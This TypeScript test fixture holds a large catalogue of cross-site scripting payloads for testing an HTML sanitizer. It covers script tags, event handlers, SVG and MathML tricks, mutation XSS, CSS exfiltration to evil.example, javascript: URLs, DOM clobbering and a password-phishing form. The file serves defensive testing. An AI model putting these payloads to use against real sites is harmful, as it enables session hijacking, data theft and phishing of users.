/**
 * Malicious help articles. An attack calls `hit()` when it runs, and requests or links to `evil.example`. Words with the prefix
 * `kept-` must be shown, words with the prefix `gone-` must not.
 */
export interface XssSample {
  name: string
  html: string
}

type Snippets = Readonly<Record<string, string>>

const SCRIPTS: Snippets = {
  'a script': '<p>kept-before</p><script>hit();"gone-code"</script>',
  'a script from elsewhere': '<script src="https://evil.example/a.js">gone-code</script>kept-after',
  'a script in pieces': '<scr<script>hit()</script>ipt>hit()</scr</script>ipt><p>kept-after</p>',
  'a module': '<script type="module">hit()</script><p>kept-after</p>',
  'an import map and a speculation rule':
    '<script type="importmap">{"imports":{"a":"https://evil.example"}}</script><script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>kept-after',
  'a script between a slash and a tag name': '<script/x>hit()</script/y><p>kept-after</p>',
  'a script in another case, with a line break': '<ScRiPt\n>hit()</sCrIpT\t><p>kept-after</p>',
  'a script inside of a comment that ends early': '<!--><script>hit()</script>--><p>kept-after</p>',
  'a script after a comment with a bang': '<!-- a --!><script>hit()</script><p>kept-after</p>',
  'a script behind a conditional comment': '<!--[if gte IE 4]><script>hit()</script><![endif]--><p>kept-after</p>',
  'a script in a section of character data': '<![CDATA[<script>hit()</script>]]><p>kept-after</p>',
  'a processing instruction': '<?xml-stylesheet href="javascript:hit()"?><p>kept-after</p>',
  'entities that become a script when read twice': '<p>kept-a &lt;script&gt;hit()&lt;/script&gt; kept-b</p>',
  'entities of entities': '<p>kept-a &amp;lt;img src=x onerror=hit()&amp;gt;</p>',
  'null bytes in names': '<scr\0ipt>hit()</scr\0ipt><img\0 src=x one\0rror=hit()><p>kept-after</p>',
}

const HANDLERS: Snippets = {
  'an image that fails': '<img src=x onerror=hit() alt="kept-picture"><p>kept-after</p>',
  'an image of this origin that fails':
    '<img src="/no-such-picture.png" onerror="hit()" alt="kept-picture"><p>kept-after</p>',
  'an image that loads':
    '<img onload=hit() alt="" src="data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==">kept-after',
  'a handler without spaces': '<img/src="x"/onerror="hit()"/alt="kept-picture">kept-after',
  'a handler behind a quote that never ends': '<p title="><img src=x onerror=hit()>">kept-text</p>',
  'a handler with back ticks': '<img src=`x` onerror=`hit()` alt="kept-picture">',
  'a handler of another case': '<p OnMouseOver="hit()" onPointerEnter="hit()">kept-text</p>',
  'an element that takes the focus': '<p tabindex=1 autofocus onfocus=hit() contenteditable>kept-text</p>',
  'a field that takes the focus': '<input autofocus onfocus=hit()><select autofocus onfocus=hit()></select>kept-after',
  'details that open': '<details open ontoggle=hit()><summary>kept-title</summary>kept-body</details>',
  'an animation that starts':
    '<style>@keyframes x{}</style><p style="animation:x" onanimationstart=hit()>kept-text</p>',
  'a marquee': '<marquee onstart=hit() loop=1>kept-text</marquee>',
  'a body': '<body onload=hit() onpageshow=hit() background="https://evil.example/a.png"><p>kept-text</p></body>',
  'media that fail':
    '<video onerror=hit()><source src=x onerror=hit()></video><audio src=x onerror=hit()></audio>kept-after',
  'a handler of content that comes into sight':
    '<div oncontentvisibilityautostatechange=hit() style="content-visibility:auto">kept-text</div>',
  'a handler of a scroll': '<div onscrollend=hit() onbeforematch=hit() hidden="until-found">kept-text</div>',
}

const FOREIGN: Snippets = {
  'an SVG with a handler': '<svg onload=hit()><text>gone-text</text></svg><p>kept-after</p>',
  'an SVG with a script': '<svg><script>hit()</script><script href="data:,hit()" /></svg><p>kept-after</p>',
  'an SVG that animates an address':
    '<svg><a><animate attributeName=href values="javascript:hit()" /><text y=20>gone-text</text></a></svg>kept-after',
  'an SVG that uses another': '<svg><use href="data:image/svg+xml,<svg id=a onload=hit() />#a"/></svg>kept-after',
  'an SVG with an xlink': '<svg><a xlink:href="javascript:hit()"><text>gone-text</text></a></svg><p>kept-after</p>',
  'HTML inside of an SVG':
    '<svg><foreignObject><img src=x onerror=hit()><iframe></iframe></foreignObject></svg><p>kept-after</p>',
  'an SVG image of elsewhere': '<svg><image href="https://evil.example/a.png"/></svg><p>kept-after</p>',
  'MathML with a link': '<math href="javascript:hit()"><mtext>gone-text</mtext></math><p>kept-after</p>',
  'MathML with an action':
    '<math><maction actiontype="statusline" xlink:href="javascript:hit()">a</maction></math>kept-after',
  'HTML inside of an annotation':
    '<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml></math><p>kept-after</p>',
}

/** Mutation XSS: markup that changes when it is serialised and parsed again. */
const MUTATIONS: Snippets = {
  'a style in MathML':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
  'a form in a form': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
  'a title in an SVG': '<svg></p><style><a id="</style><img src=x onerror=hit()>"></svg><p>kept-after</p>',
  'a comment in a style in MathML':
    '<math><mi><style><!--</style><img title="--><img src=x onerror=hit()>"></mi></math>',
  'a noscript': '<noscript><p title="</noscript><img src=x onerror=hit()>">gone-text</p></noscript><p>kept-after</p>',
  'a noembed and its kin':
    '<noembed><img title="</noembed><img src=x onerror=hit()>"></noembed><noframes><a title="</noframes><img src=x onerror=hit()>"></noframes><p>kept-after</p>',
  'an xmp': '<xmp><p title="</xmp><img src=x onerror=hit()>"></xmp><p>kept-after</p>',
  'a template': '<template><script>hit()</script><img src=x onerror=hit()></template><p>kept-after</p>',
  'a template in a template': '<template><template><svg onload=hit()></template></template><p>kept-after</p>',
  'a shadow root':
    '<div><template shadowrootmode="open"><style>:host{}</style><img src=x onerror=hit()></template>kept-light</div>',
  'a text field': '<textarea>kept-a</textarea><textarea></textarea ><img src=x onerror=hit()><p>kept-after</p>',
  'a field in MathML':
    '<math><mtext><textarea><img title="</textarea><img src=x onerror=hit()>"></mtext></math><p>kept-after</p>',
  'a table that throws out':
    'kept-before<table><tr><svg><style><td title="</style><img src=x onerror=hit()>">a</td></tr></table>',
  'a desc and a title of an SVG':
    '<p>kept-before</p><svg><desc><noscript><img title="</noscript><svg onload=hit()>"></desc></svg>',
  'a select that closes by itself':
    'kept-before<select><template><style><!--</style><a title="--><img src=x onerror=hit()>"></select>',
  'formatting that is adopted':
    '<a><b><div><p></b><math><mglyph><style><img src=x onerror=hit()></style></mglyph></math>kept-in</a>',
  'HTML that leaves MathML':
    '<math><p></p><style><!--</style><img src=x onerror=hit()>--></style></math><p>kept-after</p>',
  'an option with a script': '<select><option><script>hit()</script>kept-option</option></select><p>kept-after</p>',
}

const STYLES: Snippets = {
  'a style that covers the page':
    '<style>body{display:none!important}*{background:url(https://evil.example/a)}</style><p>kept-after</p>',
  'a style that reads a field':
    '<style>input[value^="1"]{background:url(https://evil.example/?1)}@import "https://evil.example/a.css";</style>kept-after',
  'an element over the page': '<div style="position:fixed;inset:0;z-index:99999;background:#fff">kept-text</div>',
  'a background of elsewhere': '<p style="background:url(https://evil.example/a.png)">kept-text</p>',
  'a style with an expression':
    '<p style="width:expression(hit());behavior:url(#a);-moz-binding:url(//evil.example)">kept-text</p>',
  'classes and ids of the portal': '<div class="visually-hidden" id="root" popover slot=a part=b>kept-text</div>',
  'a style sheet of elsewhere': '<link rel=stylesheet href="https://evil.example/a.css"><p>kept-after</p>',
  'a font of elsewhere':
    '<style>@font-face{font-family:a;src:url(https://evil.example/a.woff)}</style><font face=a>kept-text</font>',
  'old attributes of looks':
    '<table background="https://evil.example/a" width=9999 height=9999><tr><td bgcolor=red>kept-cell</table>',
}

const FRAMES: Snippets = {
  'a frame of elsewhere': '<iframe src="https://evil.example/login">gone-text</iframe><p>kept-after</p>',
  'a frame with its own text': '<iframe srcdoc="<script>top.hit()</script>"></iframe><p>kept-after</p>',
  'a frame with a script for an address': '<iframe src="javascript:top.hit()"></iframe><p>kept-after</p>',
  'a frame with a page for an address': '<iframe src="data:text/html,<script>top.hit()</script>"></iframe>kept-after',
  'a player that is none': '<iframe src="https://www.youtube.com.evil.example/embed/a1B2-c3_D4e"></iframe>kept-after',
  'a player with more than its share':
    '<iframe src="https://www.youtube.com/embed/a1B2-c3_D4e" onload=hit() allow="camera;microphone" name=top sandbox="allow-top-navigation"></iframe>kept-after',
  'an object and an embed':
    '<object data="data:text/html,<script>hit()</script>">kept-object</object><embed src="https://evil.example/a.swf" allowscriptaccess=always>kept-after',
  'an applet':
    '<applet code="https://evil.example/a.class"></applet><param name=movie value="javascript:hit()">kept-after',
  'a frame set': '<frameset><frame src="javascript:hit()"></frameset><p>kept-after</p>',
  'a fenced frame and a portal':
    '<fencedframe src="https://evil.example"></fencedframe><portal src="https://evil.example"></portal>kept-after',
  'another base': '<base href="https://evil.example/" target=_top><a href="/tr/destek">kept-link</a>',
  'a page that moves on': '<meta http-equiv=refresh content="0;url=https://evil.example/"><p>kept-after</p>',
  'a policy of its own':
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta charset=utf-7>kept-after',
  'hints to load':
    '<link rel=preload as=script href="https://evil.example/a.js"><link rel=dns-prefetch href="//evil.example">kept-after',
  'a manifest and an icon':
    '<link rel=manifest href="https://evil.example/a"><link rel=icon href="https://evil.example/b">kept-after',
}

const ADDRESSES: Snippets = {
  'a script for a link': '<a href="javascript:hit()">kept-link</a>',
  'a script with entities': '<a href="&#106;avascript&colon;hit&lpar;&rpar;">kept-link</a>',
  'a script with long entities': '<a href="&#x000006A&#x61vascript:hit()">kept-link</a>',
  'a script with tabs and lines': '<a href="jav&#9;ascr&#10;ipt&#13;:hit()">kept-link</a>',
  'a script behind control characters': '<a href="&#1;&#31; javascript:hit()">kept-link</a>',
  'a script behind other spaces':
    '<a href="&#x3000;javascript:hit()">kept-a</a><a href="&#160;javascript:hit()">kept-b</a>',
  'a script with a comment that is a host': '<a href="javascript://evil.example/%0Ahit()">kept-link</a>',
  'a script of another language': '<a href="vbscript:hit()">kept-a</a><a href="livescript:hit()">kept-b</a>',
  'a page for a link': '<a href="data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==">kept-link</a>',
  'a link to something in memory':
    '<a href="blob:https://evil.example/1">kept-a</a><a href="filesystem:https://evil.example/a">kept-b</a>',
  'a host without a scheme':
    '<a href="//evil.example/">kept-a</a><a href="/\\evil.example/">kept-b</a><a href="\\\\evil.example">kept-c</a>',
  'a host that looks like another': '<a href="https://portal.example@evil.example/">kept-link</a>',
  'a link that opens as its opener wants':
    '<a href="https://evil.example/" target=_top rel=opener ping="https://evil.example/ping">kept-link</a>',
  'a link that downloads': '<a download="a.exe" href="data:application/octet-stream;base64,TVo=">kept-link</a>',
  'a link that reports': '<a attributionsrc="https://evil.example/a" href="/tr/destek">kept-link</a>',
  'a map over a picture':
    '<img usemap="#m" alt="kept-picture" src=x><map name=m><area href="javascript:hit()" shape=default></map>',
  'pictures of elsewhere':
    '<img src="https://evil.example/a.gif" alt="kept-picture" srcset="https://evil.example/b.gif 2x" lowsrc="https://evil.example/c"><img src="//evil.example/d" alt="kept-other">',
  'a choice of pictures':
    '<picture><source srcset="https://evil.example/a.webp"><img src=x alt="kept-picture"></picture>',
  'a picture that is a document':
    '<img alt="kept-picture" src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'hit()\'/>">',
  'a cite and a longdesc':
    '<blockquote cite="javascript:hit()">kept-words</blockquote><img src=x longdesc="javascript:hit()" alt="kept-picture">',
}

const CLOBBERING: Snippets = {
  'images with names of the document':
    '<img name=cookie alt="kept-a"><img name=body alt="kept-b"><img name=getElementById alt="kept-c">',
  'ids with names of the window':
    '<a id=config href="/tr">kept-a</a><a id=config name=apiUrl href="https://evil.example">kept-b</a><div id=portalPreload>kept-c</div>',
  'a form that hides its own':
    '<form id=config><input name=attributes><input name=parentNode><input name=nodeName>gone-text</form>kept-after',
  'a form that hides its children':
    '<form><input name=childNodes><input name=removeChild><img src=x onerror=hit() alt="">gone-text</form>kept-after',
  'a frame with a name':
    '<iframe name=config srcdoc="<a id=apiUrl href=https://evil.example>"></iframe><p>kept-after</p>',
  'the place of the portal': '<div id=root>kept-a</div><main id=main>kept-b</main>',
  'attributes with names of every object':
    '<p constructor=x __proto__=y>kept-a</p><a constructor tostring=x href="/tr">kept-b</a>',
}

const DECEPTION: Snippets = {
  'a form for the password':
    '<form action="https://evil.example/" method=post><label>kept-label <input type=password name=p></label><button>kept-button</button></form>',
  'a button for another form':
    '<button formaction="javascript:hit()" form=a>kept-button</button><input type=image src="https://evil.example/a" formaction="https://evil.example">',
  'buttons that command':
    '<button popovertarget=a command=show-modal commandfor=a>kept-button</button><dialog id=a open>kept-dialog</dialog>',
  'roles and live regions':
    '<div role=alert aria-live=assertive aria-hidden=true aria-label="x" data-autofocus inert>kept-text</div>',
  'keys of the portal': '<a accesskey=k tabindex=5 draggable=true href="/tr/destek">kept-link</a>',
  'elements of its own': '<x-a onclick=hit() is=x-b>kept-a</x-a><p is="x-b">gone-b</p>',
  'things that the portal reads':
    '<div itemscope itemprop=a nonce=b data-late=c lang="</div><script>hit()</script>">kept-text</div>',
  'writing from right to left': '<p>kept-a \u202Ekcab\u2066 kept-b</p><bdo dir=rtl>kept-c</bdo><p>kept-d</p>',
  'a field to paste into':
    '<p contenteditable=true onpaste=hit() spellcheck=true>kept-text</p><datalist><option>x</datalist>',
}

const OPEN_ENDED: Snippets = {
  'a tag that never ends': '<p>kept-before</p><img src=x onerror=hit() alt="',
  'a comment that never ends': '<p>kept-before</p><!-- <img src=x onerror=hit()>',
  'a script that never ends': '<p>kept-before</p><script>hit()',
  'a style that never ends': '<p>kept-before</p><style>body{display:none}',
  'a title that never ends': '<p>kept-before</p><svg><title><style><img src=x onerror=hit()>',
  'plain text to the end': '<p>kept-before</p><plaintext><img src=x onerror=hit()>',
  'a field that never ends': '<p>kept-before</p><textarea><img src=x onerror=hit()>',
  'an attribute that takes the rest along': '<p>kept-before</p><img alt="" src=\'https://evil.example/?',
}

const handlers = (count: number) => Array.from({ length: count }, (_, index) => `onx${index}=hit()`).join(' ')

const SIZES: Snippets = {
  'a thousand elements in each other': `${'<div>'.repeat(1000)}kept-deep<img src=x onerror=hit()>${'</div>'.repeat(1000)}`,
  'a thousand formats in each other': `${'<b><i>'.repeat(500)}kept-deep<script>hit()</script>`,
  'a thousand tables in each other': `${'<table><tr><td>'.repeat(300)}kept-deep<svg onload=hit()></svg>`,
  'forty handlers': `<p ${handlers(40)} onclick=hit()>kept-text</p>`,
  'a hundred thousand handlers': `<p ${handlers(100_000)} onclick=hit()>gone-text</p><p>kept-after</p>`,
  'a word without an end': `<p>kept-word ${'a'.repeat(20_000)}</p>`,
}

const withEnd = (snippets: Snippets): XssSample[] =>
  Object.entries(snippets).map(([name, html]) => ({ name, html: `${html}<p>kept-end</p>` }))

/** Without an end marker, because the markup swallows following content. */
const withoutEnd = (snippets: Snippets): XssSample[] => Object.entries(snippets).map(([name, html]) => ({ name, html }))

export const XSS_SAMPLES: Readonly<Record<string, readonly XssSample[]>> = {
  'scripts and handlers': [SCRIPTS, HANDLERS].flatMap(withEnd),
  'SVG, MathML and mutations': [...withEnd(FOREIGN), ...withoutEnd(MUTATIONS)],
  'styles, frames and clobbering': [STYLES, FRAMES, CLOBBERING].flatMap(withEnd),
  'URLs and deception': [ADDRESSES, DECEPTION].flatMap(withEnd),
  'unclosed and large markup': [OPEN_ENDED, SIZES].flatMap(withoutEnd),
}

export const wordsOf = ({ html }: XssSample, sort: 'kept' | 'gone'): string[] => [
  ...new Set(html.match(new RegExp(`\\b${sort}-[a-z]+`, 'g'))),
]
